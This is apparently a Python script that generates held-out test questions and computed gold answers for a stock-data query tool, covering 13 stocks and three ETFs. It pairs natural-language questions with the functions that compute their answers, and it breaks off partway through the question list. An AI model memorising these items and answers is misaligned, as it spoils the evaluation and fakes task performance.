#!/usr/bin/env python3
"""heldout-e (written as blind-19): 240 questions for `stockctl ask` and their gold answers.

Standard library only. Gold is computed from the raw files under $ASK_EVAL_DATA (default <repo>/../shared/data),
following test/ask-eval/FORMAT.md and the conventions listed in README.md. Writes questions.jsonl next to this file
only when every self-check passes; otherwise prints the failing questions and exits 1."""
import os, sys, json, math, datetime as dt
HERE = os.path.dirname(os.path.abspath(__file__))
DATA = os.environ.get('ASK_EVAL_DATA') or os.path.join(HERE, '..', '..', '..', '..', 'shared', 'data')
DAILY = ['AAPL','AMD','AMZN','FB','GOOGL','IBM','INTC','JPM','KO','MSFT','NFLX','NVDA','TSLA']
ETFS = ['INDA','FXY','DBB']
ALL = DAILY + ETFS

def _nth_sunday(y, m, n):
    d = dt.date(y, m, 1)
    d += dt.timedelta(days=(6 - d.weekday()) % 7)
    return d + dt.timedelta(days=7 * (n - 1))

def utc_to_ny(t):
    y = t.year
    start = dt.datetime.combine(_nth_sunday(y, 3, 2), dt.time(7))   # 2:00 EST = 07:00 UTC
    end = dt.datetime.combine(_nth_sunday(y, 11, 1), dt.time(6))    # 2:00 EDT = 06:00 UTC
    return t - dt.timedelta(hours=4 if start <= t < end else 5)

class Bars:
    def __init__(self, rows):
        rows.sort()
        self.d = [r[0] for r in rows]; self.o = [r[1] for r in rows]; self.h = [r[2] for r in rows]
        self.l = [r[3] for r in rows]; self.c = [r[4] for r in rows]; self.v = [r[5] for r in rows]
        self.idx = {d: i for i, d in enumerate(self.d)}

B = {}; MIN = {}
for s in DAILY:
    rows = []
    with open(os.path.join(DATA, 'stocks', s.lower() + '.us.txt')) as f:
        next(f)
        for line in f:
            p = line.strip().split(',')
            if len(p) < 6: continue
            rows.append((p[0], float(p[1]), float(p[2]), float(p[3]), float(p[4]), float(p[5])))
    B[s] = Bars(rows)
_idir = os.path.join(DATA, 'intraday')
for s in ETFS:
    fn = [x for x in os.listdir(_idir) if x.startswith(s + '_') and x.endswith('.csv')][0]
    mins = []
    with open(os.path.join(_idir, fn)) as f:
        next(f)
        for line in f:
            p = line.strip().split(',')
            if len(p) < 6: continue
            t = utc_to_ny(dt.datetime.strptime(p[0][:19], '%Y-%m-%d %H:%M:%S'))
            mins.append((t.strftime('%Y-%m-%d %H:%M'), float(p[1]), float(p[2]), float(p[3]), float(p[4]), float(p[5])))
    mins.sort()
    MIN[s] = mins
    days = {}
    for m in mins:
        d = m[0][:10]
        if d not in days: days[d] = [d, m[1], m[2], m[3], m[4], m[5]]
        else:
            r = days[d]; r[2] = max(r[2], m[2]); r[3] = min(r[3], m[3]); r[4] = m[4]; r[5] += m[5]
    B[s] = Bars([tuple(r) for r in days.values()])

# ---------- check machinery ----------
FAILS = []
def fail(msg): FAILS.append(msg)

def tol(b):
    b = abs(b)
    return max(0.001 * b, 0.01 if b >= 1 else 0.0001)
def close_enough(a, b):
    if abs(a - b) <= max(tol(a), tol(b)): return True
    # percent form too
    return abs(100 * a - 100 * b) <= max(tol(100 * a), tol(100 * b))

def D(x):
    """parse a date given as YYYY-MM-DD"""
    return dt.date.fromisoformat(x)

# ---------- data helpers ----------
def S(sym, d):
    b = B[sym]
    if d not in b.idx:
        fail('%s: %s is not a trading day' % (sym, d)); return None
    return b.idx[d]
def onb(sym, d):
    """index of the session on or before d"""
    b = B[sym]; import bisect
    i = bisect.bisect_right(b.d, d) - 1
    if i < 0: fail('%s: nothing on/before %s' % (sym, d))
    return i
def win(sym, d1, d2):
    b = B[sym]; import bisect
    i = bisect.bisect_left(b.d, d1); j = bisect.bisect_right(b.d, d2)
    if j <= i: fail('%s: empty window %s..%s' % (sym, d1, d2))
    return list(range(i, j))
def F(sym, i, f):
    b = B[sym]
    if f == 'range': return b.h[i] - b.l[i]
    if f == 'ret': return ret(sym, i)
    if f == 'gap': return gap(sym, i)
    return getattr(b, f)[i]
def ret(sym, i):
    b = B[sym]
    if i <= 0: fail('%s: no previous session' % sym); return 0.0
    return b.c[i] / b.c[i - 1] - 1
def gap(sym, i):
    b = B[sym]
    if i <= 0: fail('%s: no previous session' % sym); return 0.0
    return b.o[i] / b.c[i - 1] - 1
def nonflat(x, what='value'):
    if abs(x) < 0.0005: fail('weak: %s %.6f is ~0' % (what, x))
    return x
def mean(xs): return sum(xs) / len(xs)
def stdev(xs):
    m = mean(xs); return math.sqrt(sum((x - m) ** 2 for x in xs) / (len(xs) - 1))
def pearson(xs, ys):
    mx, my = mean(xs), mean(ys)
    sxy = sum((a - mx) * (b - my) for a, b in zip(xs, ys))
    sxx = sum((a - mx) ** 2 for a in xs); syy = sum((b - my) ** 2 for b in ys)
    return sxy / math.sqrt(sxx * syy)
def ma(sym, i, n):
    if i - n + 1 < 0: return None
    return mean(B[sym].c[i - n + 1:i + 1])

def rnd(x):
    if isinstance(x, str): return x
    x = round(float(x), 8)
    if x == int(x): return int(x)
    return x
def rows_clean(rows): return [[rnd(c) for c in r] for r in rows]
def G(rows, match='first', exact=False):
    g = {'rows': rows_clean(rows), 'match': match}
    if exact: g['exact_rows'] = True
    return g

def unique_top(vals, n, what):
    """vals sorted best-first list of (key, value); assert no ties in top n and nth vs n+1th"""
    m = min(n + 1, len(vals))
    for k in range(m - 1):
        if close_enough(vals[k][1], vals[k + 1][1]):
            fail('tie in %s: %s %s vs %s %s' % (what, vals[k][0], vals[k][1], vals[k + 1][0], vals[k + 1][1]))

def T(x): return x  # readability marker for ISO date strings

# ---------- periods ----------
import calendar, bisect
def month(y, m): return ('%04d-%02d-01' % (y, m), '%04d-%02d-%02d' % (y, m, calendar.monthrange(y, m)[1]))
def quarter(y, q): return (month(y, 3 * q - 2)[0], month(y, 3 * q)[1])
def half(y, h): return (month(y, 6 * h - 5)[0], month(y, 6 * h)[1])
def year(y): return ('%04d-01-01' % y, '%04d-12-31' % y)
def week(d):
    x = D(d); mon = x - dt.timedelta(days=x.weekday())
    return (mon.isoformat(), (mon + dt.timedelta(days=4)).isoformat())
TODAY = '2025-07-08'
THIS_YEAR = ('2025-01-01', TODAY)
THIS_MONTH = ('2025-07-01', TODAY)
LAST_MONTH = month(2025, 6)
LAST_QUARTER = quarter(2025, 2)
INDA_GAP = ('2023-10-17', '2025-02-10')

def gapcheck(sym, d1, d2):
    if sym == 'INDA' and d1 < INDA_GAP[1] and d2 > INDA_GAP[0]:
        fail('INDA window %s..%s spans its data gap' % (d1, d2))
def W(sym, d1, d2):
    gapcheck(sym, d1, d2)
    return win(sym, d1, d2)
def three(*dates):
    for d in dates:
        for s in ETFS:
            if d not in B[s].idx: fail('three ETFs: %s has no data on %s' % (s, d))

AGG = {'mean': mean, 'sum': sum, 'max': max, 'min': min, 'last': lambda v: v[-1], 'first': lambda v: v[0]}

# ---------- gold builders ----------
def g_day(sym, d, f):
    i = S(sym, d)
    if i is None: return None
    return G([[d, F(sym, i, f)]])
def g_ret(sym, d, f='ret'):
    i = S(sym, d)
    if i is None: return None
    return G([[d, nonflat(F(sym, i, f), f)]])
def g_latest(sym, n, fields):
    b = B[sym]; idx = range(len(b.d) - n, len(b.d))
    return G([[b.d[i]] + [F(sym, i, f) for f in fields] for i in idx], 'set', True)
def g_rows(sym, d1, d2, fields, named=True):
    if named: S(sym, d1); S(sym, d2)
    idx = W(sym, d1, d2)
    return G([[B[sym].d[i]] + [F(sym, i, f) for f in fields] for i in idx], 'set', True)
def g_agg(sym, p, f, agg):
    vals = [F(sym, i, f) for i in W(sym, *p)]
    return G([[AGG[agg](vals)]])
def g_extreme(sym, p, f, mode):
    b = B[sym]
    vals = sorted(((b.d[i], F(sym, i, f)) for i in W(sym, *p)), key=lambda t: t[1], reverse=(mode == 'max'))
    unique_top(vals, 1, 'extreme')
    return G([list(vals[0])])
def g_52w(sym, d, which):
    i = S(sym, d)
    if i is None: return None
    res = []
    for k in (364, 365):
        lo = (D(d) - dt.timedelta(days=k)).isoformat()
        idx = W(sym, lo, d)
        res.append((min(B[sym].l[j] for j in idx), max(B[sym].h[j] for j in idx)))
    if res[0] != res[1]: fail('52-week window edge matters')
    lo, hi = res[1]
    return G([[hi]] if which == 'high' else [[lo]] if which == 'low' else [[lo, hi]])
def g_change(sym, d1, d2, strict=True):
    gapcheck(sym, d1, d2)
    if strict:
        i, j = S(sym, d1), S(sym, d2)
        if i is None or j is None: return None
    else:
        i, j = onb(sym, d1), onb(sym, d2)
    c = B[sym].c
    return G([[nonflat(c[j] / c[i] - 1, 'change')]])
def _wrets(sym, p, f='ret'):
    b = B[sym]
    return [(b.d[i], F(sym, i, f)) for i in W(sym, *p)]
def g_bigmove(sym, p, mode, f='ret'):
    r = _wrets(sym, p, f)
    def pick(rr):
        key = (lambda t: t[1]) if mode != 'abs' else (lambda t: abs(t[1]))
        return sorted(rr, key=key, reverse=(mode != 'min'))
    s = pick(r)
    unique_top([(a, (abs(v) if mode == 'abs' else v)) for a, v in s], 1, 'biggest move')
    if pick(r[1:])[0] != s[0]: fail('dropping first session return changes biggest move')
    return G([list(s[0])])
def _rank(vals, n, desc, singular):
    vals = sorted(vals, key=lambda t: t[1], reverse=desc)
    unique_top(vals, n, 'ranking')
    if len(vals) < n: fail('fewer than %d symbols' % n)
    rows = [list(v) for v in vals[:n]]
    return G(rows[:1], 'first') if singular else G(rows, 'ordered', True)
def g_xrank(d, f, n, desc=True, syms=None, singular=False):
    syms = syms or ALL
    if syms == ETFS: three(d)
    vals = [(s, F(s, B[s].idx[d], f)) for s in syms if d in B[s].idx]
    if f in ('ret', 'gap'):
        for _, v in vals[:n]: nonflat(v, f)
    return _rank(vals, n, desc, singular)
def g_gainers(d1, d2, n, desc=True, syms=None, singular=False):
    syms = syms or ALL
    if syms == ETFS: three(d1, d2)
    vals = []
    for s in syms:
        b = B[s]
        if d1 in b.idx and d2 in b.idx:
            gapcheck(s, d1, d2)
            vals.append((s, b.c[b.idx[d2]] / b.c[b.idx[d1]] - 1))
    if not vals: fail('no symbols')
    return _rank(vals, n, desc, singular)
def g_cmp(syms, fn, mode='which', higher=True):
    vals = [(s, fn(s)) for s in syms]
    vals.sort(key=lambda t: t[1], reverse=higher)
    if close_enough(vals[0][1], vals[1][1]): fail('comparison tie')
    rows = [list(v) for v in vals]
    return G(rows, 'ordered') if mode == 'which' else G(rows, 'set', True)
def m_change(d1, d2):
    return lambda s: nonflat(B[s].c[S(s, d2)] / B[s].c[S(s, d1)] - 1, 'change')
def m_agg(p, f, agg='mean'):
    return lambda s: AGG[agg]([F(s, i, f) for i in W(s, *p)])
def m_day(d, f):
    return lambda s: F(s, S(s, d), f)
def m_vol(p):
    def fn(s):
        r = [v for _, v in _wrets(s, p)]
        if not close_enough(stdev(r), stdev(r[1:])): fail('vol: first return matters')
        return stdev(r)
    return fn
def g_grouped(sym, periods, f, agg):
    return G([[AGG[agg]([F(sym, i, f) for i in W(sym, *p)])] for p in periods], 'ordered', True)
def g_pop(sym, later, earlier, f):
    a = mean([F(sym, i, f) for i in W(sym, *later)]); b = mean([F(sym, i, f) for i in W(sym, *earlier)])
    return G([[a, b, nonflat(a / b - 1, 'pop change')]])
def _ma_ok(sym, i, n):
    if sym == 'INDA' and i - n + 1 >= 0:
        if B[sym].d[i - n + 1] <= INDA_GAP[0] and B[sym].d[i] >= INDA_GAP[1]: fail('INDA MA spans gap')
def g_ma(sym, d, n):
    i = S(sym, d)
    if i is None: return None
    _ma_ok(sym, i, n)
    m = ma(sym, i, n)
    if m is None: fail('MA undefined'); return None
    return G([[d, m]])
def g_cross(sym, fast, slow, p, direction, which='first', before=None):
    b = B[sym]
    def ser(x, i): return b.c[i] if x == 'close' else ma(sym, i, x)
    def diff(i):
        a, c = ser(fast, i), ser(slow, i)
        if a is None or c is None: return None
        return a - c
    def crossing(i):
        x, y = diff(i - 1), diff(i)
        if x is None or y is None: return False
        return (x < 0 < y) if direction == 'above' else (x > 0 > y)
    idx = W(sym, *p)
    hits = [i for i in idx if crossing(i)]
    if before and before in b.idx and crossing(b.idx[before]): fail('D itself is a crossing')
    if not hits: fail('no crossing'); return None
    h = hits[0] if which == 'first' else hits[-1]
    for k in (h - 1, h):
        a = ser(fast, k)
        if abs(diff(k)) <= 1e-6 * abs(a): fail('near tie at crossing')
    return G([[b.d[h]]])
def g_count(sym, p, pred, f, uses_ret=False):
    vals = [F(sym, i, f) for i in W(sym, *p)]
    n = sum(1 for v in vals if pred(v))
    if n == 0: fail('count is 0')
    if uses_ret and pred(vals[0]): fail('first session return counts')
    return G([[n]])
def g_xcount(d, pred, syms=None):
    syms = syms or ALL
    if syms == ETFS: three(d)
    u = [s for s in syms if d in B[s].idx]
    n = sum(1 for s in u if pred(s, B[s].idx[d]))
    if n == 0: fail('count is 0')
    if n == len(u) and len(u) > 3: fail('weak: every symbol counted')
    return G([[n]])
def g_vol(sym, p):
    return G([[m_vol(p)(sym)]])
def g_corr(a, b, p):
    ra = dict(_wrets(a, p)); rb = dict(_wrets(b, p))
    ds = sorted(set(ra) & set(rb))
    r = pearson([ra[d] for d in ds], [rb[d] for d in ds])
    r2 = pearson([ra[d] for d in ds[1:]], [rb[d] for d in ds[1:]])
    if abs(r) < 0.2: fail('weak correlation %.4f' % r)
    if not close_enough(r, r2): fail('corr: first return matters %.5f vs %.5f' % (r, r2))
    return G([[r]])
def _streak(rr, up):
    best = []; cur = []
    for d, v in rr:
        if (v > 0) if up else (v < 0): cur.append(d)
        else: cur = []
        if len(cur) > len(best): best = list(cur)
    # uniqueness
    runs = []; cur = []
    for d, v in rr + [('', 0)]:
        if (v > 0) if up else (v < 0): cur.append(d)
        else:
            if cur: runs.append(len(cur))
            cur = []
    if runs.count(len(best)) > 1: fail('tied longest streaks')
    return (len(best), best[0], best[-1])
def g_streak(sym, p, up=True):
    rr = _wrets(sym, p)
    a = _streak(rr, up); b2 = _streak(rr[1:], up)
    if a != b2: fail('streak: first return matters')
    return G([list(a)])
def _mins(sym, d, t1='00:00', t2='23:59', incl=True):
    lo = d + ' ' + t1; hi = d + ' ' + t2
    return [m for m in MIN[sym] if lo <= m[0] and (m[0] <= hi if incl else m[0] < hi)]
def _vwap(ms):
    v = sum(m[5] for m in ms)
    if v == 0: fail('no volume'); return 0
    return sum(m[4] * m[5] for m in ms) / v
def g_vwap_day(sym, d):
    S(sym, d)
    a = _vwap(_mins(sym, d)); r = _vwap(_mins(sym, d, '09:30', '16:00', False))
    if abs(a / r - 1) > 0.001: fail('day VWAP vs regular session differ')
    return G([[a]])
def g_vwap_win(sym, d, t1, t2, both):
    S(sym, d)
    ms = _mins(sym, d, t1, t2, True)
    if len(ms) < 5: fail('few minutes')
    a = _vwap(ms)
    if both and not close_enough(a, _vwap(_mins(sym, d, t1, t2, False))): fail('vwap window edge matters')
    return G([[a]])
def g_bars(sym, d, t1, t2, fields):
    S(sym, d)
    ms = _mins(sym, d, t1, t2, True)
    if len(ms) < 3: fail('few bars')
    pos = {'o': 1, 'h': 2, 'l': 3, 'c': 4, 'v': 5}
    return G([[m[0]] + [m[pos[f]] for f in fields] for m in ms], 'set', True)
def g_candle(sym, p):
    idx = W(sym, *p); b = B[sym]
    return G([[b.o[idx[0]], max(b.h[i] for i in idx), min(b.l[i] for i in idx), b.c[idx[-1]], sum(b.v[i] for i in idx)]])
def g_dist(sym, d):
    i = S(sym, d)
    if i is None: return None
    if sym == 'INDA': fail('INDA all-time spans gap')
    c = B[sym].c
    return G([[d, nonflat(c[i] / max(c[:i + 1]) - 1, 'distance')]])
def g_first(sym): return G([[B[sym].d[0]]])
def g_last(sym): return G([[B[sym].d[-1]]])
def g_span(sym): return G([[B[sym].d[0], B[sym].d[-1]]])
def g_all(): return G([[s] for s in ALL], 'set', True)

# ---------- the questions: (kind, question, gold thunk) ----------
Q = []
def q(kind, text, fn): Q.append((kind, text, fn))
def R(kind, text): Q.append((kind, text, None))
up = lambda v: v > 0
dn = lambda v: v < 0

# latest-rows (8)
q('latest-rows', "FXY last 5 closes", lambda: g_latest('FXY', 5, ['c']))
q('latest-rows', "Could you please show me the closing prices and the volume for the yen ETF over the last three trading days? Thanks so much!", lambda: g_latest('FXY', 3, ['c', 'v']))
q('latest-rows', "dbb latest 4 days open high low close", lambda: g_latest('DBB', 4, ['o', 'h', 'l', 'c']))
q('latest-rows', "What were the most recent closing prices for the iShares India ETF? The last five sessions it traded will do.", lambda: g_latest('INDA', 5, ['c']))
q('latest-rows', "base metals etf last 2 sessions volume", lambda: g_latest('DBB', 2, ['v']))
q('latest-rows', "Show the final three sessions of Netflix in the dataset along with their closing prices.", lambda: g_latest('NFLX', 3, ['c']))
q('latest-rows', "MSFT last 5 rows in the data, close + vol", lambda: g_latest('MSFT', 5, ['c', 'v']))
q('latest-rows', "Hi! I'm curious what Coca-Cola's last few closing prices were in your data, maybe the last four trading days?", lambda: g_latest('KO', 4, ['c']))

# day-value (8)
q('day-value', "AAPL close 3/4/2016", lambda: g_day('AAPL', '2016-03-04', 'c'))
q('day-value', "What was Microsoft's opening price on March 4th, 2015?", lambda: g_day('MSFT', '2015-03-04', 'o'))
q('day-value', "how mcuh volume tesla trade 8 aug 2017", lambda: g_day('TSLA', '2017-08-08', 'v'))
q('day-value', "Hello, I was wondering what the high for Nvidia's stock was on the 14th of June 2016?", lambda: g_day('NVDA', '2016-06-14', 'h'))
q('day-value', "IBM low 2013-10-17", lambda: g_day('IBM', '2013-10-17', 'l'))
q('day-value', "Where did shares of JPMorgan Chase close on Friday, September 18, 2015?", lambda: g_day('JPM', '2015-09-18', 'c'))
q('day-value', "fxy closing price on 2024-11-06", lambda: g_day('FXY', '2024-11-06', 'c'))
q('day-value', "whats the tradng range of dbb on march 12 2025", lambda: g_day('DBB', '2025-03-12', 'range'))

# date-range-rows (8)
q('date-range-rows', "KO closes Jan 19-22, 2016", lambda: g_rows('KO', '2016-01-19', '2016-01-22', ['c']))
q('date-range-rows', "Can you list Amazon's daily open and close for the week of May 9, 2016, please?", lambda: g_rows('AMZN', *week('2016-05-09'), ['o', 'c']))
q('date-range-rows', "intel volumn each day 11/1/2017 thru 11/3/2017", lambda: g_rows('INTC', '2017-11-01', '2017-11-03', ['v']))
q('date-range-rows', "Give me Facebook's daily highs and lows from August 22 to August 26, 2016.", lambda: g_rows('FB', '2016-08-22', '2016-08-26', ['h', 'l']))
q('date-range-rows', "GOOGL OHLC 2014-04-07 to 2014-04-09", lambda: g_rows('GOOGL', '2014-04-07', '2014-04-09', ['o', 'h', 'l', 'c']))
q('date-range-rows', "yen etf closes for the week of march 17 2025", lambda: g_rows('FXY', *week('2025-03-17'), ['c']))
q('date-range-rows', "I'd love to see the daily closing prices and volume for the India ETF between February 18 and February 21, 2025.", lambda: g_rows('INDA', '2025-02-18', '2025-02-21', ['c', 'v']))
q('date-range-rows', "DBB daily highs 2024-09-23 through 2024-09-27", lambda: g_rows('DBB', '2024-09-23', '2024-09-27', ['h']))

# window-aggregate (8)
q('window-aggregate', "avg close AAPL March 2016", lambda: g_agg('AAPL', month(2016, 3), 'c', 'mean'))
q('window-aggregate', "What was the total trading volume for Tesla in the second quarter of 2017?", lambda: g_agg('TSLA', quarter(2017, 2), 'v', 'sum'))
q('window-aggregate', "highest price netflix traded at in Q3'15", lambda: g_agg('NFLX', quarter(2015, 3), 'h', 'max'))
q('window-aggregate', "Could you tell me the lowest price AMD hit during the first half of 2016?", lambda: g_agg('AMD', half(2016, 1), 'l', 'min'))
q('window-aggregate', "Average daily trading range for Coca-Cola shares in October 2014?", lambda: g_agg('KO', month(2014, 10), 'range', 'mean'))
q('window-aggregate', "jpm avg daily volume h2 2016", lambda: g_agg('JPM', half(2016, 2), 'v', 'mean'))
q('window-aggregate', "average daily volume of the yen ETF last month", lambda: g_agg('FXY', LAST_MONTH, 'v', 'mean'))
q('window-aggregate', "What's the highest close the base metals fund (DBB) has had so far this year?", lambda: g_agg('DBB', THIS_YEAR, 'c', 'max'))

# extreme-day (8)
q('extreme-day', "Which day in 2016 did Apple post its highest closing price?", lambda: g_extreme('AAPL', year(2016), 'c', 'max'))
q('extreme-day', "msft lowest close 2015 - what date", lambda: g_extreme('MSFT', year(2015), 'c', 'min'))
q('extreme-day', "On what day did Nvidia see its heaviest trading volume in 2017?", lambda: g_extreme('NVDA', ('2017-01-01', '2017-11-10'), 'v', 'max'))
q('extreme-day', "which day had lowest volme for ibm in 2014", lambda: g_extreme('IBM', year(2014), 'v', 'min'))
q('extreme-day', "In the first quarter of 2013, on which date did Google shares hit their lowest intraday price?", lambda: g_extreme('GOOGL', quarter(2013, 1), 'l', 'min'))
q('extreme-day', "FXY highest close 2024, date?", lambda: g_extreme('FXY', year(2024), 'c', 'max'))
q('extreme-day', "when did the base metals etf have its lowest close in the first half of this year", lambda: g_extreme('DBB', half(2025, 1), 'c', 'min'))
q('extreme-day', "What day in April 2025 did the India ETF have its widest intraday range?", lambda: g_extreme('INDA', month(2025, 4), 'range', 'max'))

# 52-week (8)
q('52-week', "AAPL 52-week high as of 2016-06-30", lambda: g_52w('AAPL', '2016-06-30', 'high'))
q('52-week', "What was Intel's 52-week low on December 30, 2015?", lambda: g_52w('INTC', '2015-12-30', 'low'))
q('52-week', "52wk range KO 9/15/2017", lambda: g_52w('KO', '2017-09-15', 'range'))
q('52-week', "Hi there, what was Amazon's 52-week high as of 3 Feb 2017?", lambda: g_52w('AMZN', '2017-02-03', 'high'))
q('52-week', "tsla 52 week low as of june 1 2016", lambda: g_52w('TSLA', '2016-06-01', 'low'))
q('52-week', "Could you give me JP Morgan's 52-week range as of the close on 31 October 2016?", lambda: g_52w('JPM', '2016-10-31', 'range'))
q('52-week', "fxy 52 week high today", lambda: g_52w('FXY', TODAY, 'high'))
q('52-week', "What's the 52-week low for the DBB base metals ETF as of May 30, 2025?", lambda: g_52w('DBB', '2025-05-30', 'low'))

# change-between (8)
q('change-between', "% change GOOGL 2015-01-02 close to 2015-12-31 close", lambda: g_change('GOOGL', '2015-01-02', '2015-12-31'))
q('change-between', "How much did Netflix stock change from the close on 6/1/2015 to the close on 9/1/2015?", lambda: g_change('NFLX', '2015-06-01', '2015-09-01'))
q('change-between', "Between Jan 1 2016 and Dec 31 2016, by how much did Nvidia's share price change?", lambda: g_change('NVDA', '2016-01-01', '2016-12-31', strict=False))
q('change-between', "fb price change from march 1 2017 close to march 31 2017 close", lambda: g_change('FB', '2017-03-01', '2017-03-31'))
q('change-between', "What was the percentage move in IBM shares from the August 3rd, 2015 close to the November 2nd, 2015 close?", lambda: g_change('IBM', '2015-08-03', '2015-11-02'))
q('change-between', "ko chg 2/1/2017 close -> 5/1/2017 close", lambda: g_change('KO', '2017-02-01', '2017-05-01'))
q('change-between', "How much has the yen ETF moved year to date, measured from its 2024 year-end close?", lambda: g_change('FXY', '2024-12-31', TODAY))
q('change-between', "dbb % chg from 1 apr 2025 close to 30 apr 2025 close", lambda: g_change('DBB', '2025-04-01', '2025-04-30'))

# daily-return-or-gap (9)
q('daily-return-or-gap', "AMD daily return 2016-07-22", lambda: g_ret('AMD', '2016-07-22'))
q('daily-return-or-gap', "What was Tesla's opening gap on 2013-05-09?", lambda: g_ret('TSLA', '2013-05-09', 'gap'))
q('daily-return-or-gap', "by how much did apple stock move on sept 9 2014", lambda: g_ret('AAPL', '2014-09-09'))
q('daily-return-or-gap', "Could you tell me what Facebook's return was on July 28, 2016?", lambda: g_ret('FB', '2016-07-28'))
q('daily-return-or-gap', "MSFT open gap 24 Oct 2014", lambda: g_ret('MSFT', '2014-10-24', 'gap'))
q('daily-return-or-gap', "Netflix's one-day percentage change on April 19th, 2016", lambda: g_ret('NFLX', '2016-04-19'))
q('daily-return-or-gap', "how much did inda gap up or down at the open on 4/7/2025", lambda: g_ret('INDA', '2025-04-07', 'gap'))
q('daily-return-or-gap', "What was the yen ETF's daily return on August 5, 2024, the day of the carry-trade unwind?", lambda: g_ret('FXY', '2024-08-05'))
q('daily-return-or-gap', "dbb retrun yesterday", lambda: g_ret('DBB', '2025-07-07'))

# biggest-move-day (8)
q('biggest-move-day', "Biggest one-day drop for Nvidia in 2016?", lambda: g_bigmove('NVDA', year(2016), 'min'))
q('biggest-move-day', "nflx largest daily gain 2015", lambda: g_bigmove('NFLX', year(2015), 'max'))
q('biggest-move-day', "On which day in 2014 did Amazon have its largest percentage move in either direction?", lambda: g_bigmove('AMZN', year(2014), 'abs'))
q('biggest-move-day', "JPM worst day of 2011", lambda: g_bigmove('JPM', year(2011), 'min'))
q('biggest-move-day', "What was Intel's biggest up day during the second half of 2015?", lambda: g_bigmove('INTC', half(2015, 2), 'max'))
q('biggest-move-day', "largest gap down for tesla in 2017", lambda: g_bigmove('TSLA', ('2017-01-01', '2017-11-10'), 'min', 'gap'))
q('biggest-move-day', "FXY biggest single-day gain in 2024", lambda: g_bigmove('FXY', year(2024), 'max'))
q('biggest-move-day', "What was the base metals ETF's worst daily return in April 2025, and when?", lambda: g_bigmove('DBB', month(2025, 4), 'min'))

# cross-sectional-ranking (9)
q('cross-sectional-ranking', "top 3 by volume on 6/24/2016", lambda: g_xrank('2016-06-24', 'v', 3))
q('cross-sectional-ranking', "Which stock had the best return on November 9, 2016, the day after the election?", lambda: g_xrank('2016-11-09', 'ret', 1, singular=True))
q('cross-sectional-ranking', "Can you rank the stocks by their daily trading range on 2015-08-24? Top five please.", lambda: g_xrank('2015-08-24', 'range', 5))
q('cross-sectional-ranking', "worst 3 performers 20 jan 2016", lambda: g_xrank('2016-01-20', 'ret', 3, desc=False))
q('cross-sectional-ranking', "Which four stocks gapped up the most on January 4th, 2017?", lambda: g_xrank('2017-01-04', 'gap', 4))
q('cross-sectional-ranking', "lowest closing price among all the stocks on 2013-06-03 - which one", lambda: g_xrank('2013-06-03', 'c', 1, desc=False, singular=True))
q('cross-sectional-ranking', "Of the three ETFs, which one had the biggest gain on 2025-04-09?", lambda: g_xrank('2025-04-09', 'ret', 1, syms=ETFS, singular=True))
q('cross-sectional-ranking', "rank the india, yen and base metals etfs by volume on 3/3/2025", lambda: g_xrank('2025-03-03', 'v', 3, syms=ETFS))
q('cross-sectional-ranking', "Which of the three ETFs had the widest dollar trading range on September 21, 2023?", lambda: g_xrank('2023-09-21', 'range', 1, syms=ETFS, singular=True))

# gainers-losers (8)
q('gainers-losers', "top 3 gainers from the 2016-12-30 close to the 2017-06-30 close", lambda: g_gainers('2016-12-30', '2017-06-30', 3))
q('gainers-losers', "Which stocks lost the most between the close on August 1, 2017 and the close on September 1, 2017? Give me the bottom three.", lambda: g_gainers('2017-08-01', '2017-09-01', 3, desc=False))
q('gainers-losers', "Who were the biggest winners on 11/7/2016? top 5", lambda: g_xrank('2016-11-07', 'ret', 5))
q('gainers-losers', "biggest losers jan 2016 (12/31/15 close to 1/29/16 close), worst 4", lambda: g_gainers('2015-12-31', '2016-01-29', 4, desc=False))
q('gainers-losers', "Hello! Which two stocks did the best from the Brexit vote close on June 23, 2016 through the July 29, 2016 close?", lambda: g_gainers('2016-06-23', '2016-07-29', 2))
q('gainers-losers', "best performer Q1 2017, 12/30/16 close -> 3/31/17 close", lambda: g_gainers('2016-12-30', '2017-03-31', 1, singular=True))
q('gainers-losers', "Rank the three ETFs by percentage change from the 2025-02-14 close to the 2025-06-13 close.", lambda: g_gainers('2025-02-14', '2025-06-13', 3, syms=ETFS))
q('gainers-losers', "which etf fell the most between the 2023-07-31 close and the 2023-10-16 close", lambda: g_gainers('2023-07-31', '2023-10-16', 1, desc=False, syms=ETFS, singular=True))

# named-comparison (8)
q('named-comparison', "Did Apple or Microsoft gain more in 2016, going from the 12/31/2015 close to the 12/30/2016 close?", lambda: g_cmp(['AAPL', 'MSFT'], m_change('2015-12-31', '2016-12-30')))
q('named-comparison', "Compare the average daily volume of Intel and AMD in May 2017.", lambda: g_cmp(['INTC', 'AMD'], m_agg(month(2017, 5), 'v'), 'compare'))
q('named-comparison', "who closed higher on 2017-03-15, amzn or googl", lambda: g_cmp(['AMZN', 'GOOGL'], m_day('2017-03-15', 'c')))
q('named-comparison', "Netflix vs Tesla: % change from 2014-12-31 close to 2015-12-31 close", lambda: g_cmp(['NFLX', 'TSLA'], m_change('2014-12-31', '2015-12-31'), 'compare'))
q('named-comparison', "Which traded more shares on April 28th 2017, Alphabet or Amazon?", lambda: g_cmp(['GOOGL', 'AMZN'], m_day('2017-04-28', 'v')))
q('named-comparison', "fxy vs dbb pct change 4/30/2025 close to 5/30/2025 close", lambda: g_cmp(['FXY', 'DBB'], m_change('2025-04-30', '2025-05-30'), 'compare'))
q('named-comparison', "Which was more volatile in the second quarter of 2025, the India ETF or the base metals ETF?", lambda: g_cmp(['INDA', 'DBB'], m_vol(quarter(2025, 2))))
q('named-comparison', "did yen etf or inda have bigger avg daily rnage in may 2025", lambda: g_cmp(['FXY', 'INDA'], m_agg(month(2025, 5), 'range')))

# grouped-by-period (8)
q('grouped-by-period', "monthly closes for KO in 2015", lambda: g_grouped('KO', [month(2015, m) for m in range(1, 13)], 'c', 'last'))
q('grouped-by-period', "What was Apple's total trading volume in each quarter of 2016?", lambda: g_grouped('AAPL', [quarter(2016, k) for k in range(1, 5)], 'v', 'sum'))
q('grouped-by-period', "nvda yearly high 2012-2016", lambda: g_grouped('NVDA', [year(y) for y in range(2012, 2017)], 'h', 'max'))
q('grouped-by-period', "Average closing price of Facebook by month for the first half of 2017, please.", lambda: g_grouped('FB', [month(2017, m) for m in range(1, 7)], 'c', 'mean'))
q('grouped-by-period', "avg daily range of tesla per quarter, 2015", lambda: g_grouped('TSLA', [quarter(2015, k) for k in range(1, 5)], 'range', 'mean'))
q('grouped-by-period', "FXY month-end closes Jan-Jun 2025", lambda: g_grouped('FXY', [month(2025, m) for m in range(1, 7)], 'c', 'last'))
